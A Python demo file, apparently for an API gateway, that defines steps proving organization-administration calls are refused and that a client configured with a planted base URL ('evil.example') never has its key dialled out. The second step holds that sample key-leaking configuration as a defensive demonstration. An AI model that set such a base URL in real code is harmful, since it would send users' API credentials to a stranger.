"""Where calls may go: not to the organization's administration, and to no other host."""

from collections.abc import Iterator

from scripts.demo.step import Proof, Scene, Step


def closed(scene: Scene) -> Iterator[Proof]:
    yield Proof.same("nothing was sent to OpenAI", [], scene.calls)
    yield Proof.same("the call was refused", "403 gateway_endpoint_refused", scene.heard())


def not_dialled(scene: Scene) -> Iterator[Proof]:
    yield Proof.same(
        "no connection was opened, to anywhere", [], [asked.target for asked in scene.dialled]
    )
    yield Proof.same("nothing was sent to OpenAI", [], scene.calls)
    yield Proof("the tunnel was refused", "403" in scene.heard(), "403", scene.heard())


ADMIN = Step(
    title="The administration of the organization is closed",
    about="""Users, projects, keys and costs of the organization have no place on a staging host,
whatever the key.""",
    code="""
from openai import OpenAI, PermissionDeniedError

try:
    OpenAI().get("/organization/projects", cast_to=object)
except PermissionDeniedError as refused:
    print(refused.status_code, refused.code)
""",
    sent=("GET /v1/organization/projects", "authorization: Bearer {production}"),
    check=closed,
)

ELSEWHERE = Step(
    title="Any other host is refused before it is dialled",
    about="""A wrong or planted base URL would carry the key to a stranger. The gateway opens
tunnels to api.openai.com and to nobody else.""",
    code="""
from openai import APIConnectionError, OpenAI

try:
    OpenAI(base_url="https://evil.example/v1", max_retries=0).models.list()
except APIConnectionError as refused:
    print(refused.__cause__)
""",
    sent=("CONNECT evil.example:443",),
    check=not_dialled,
)
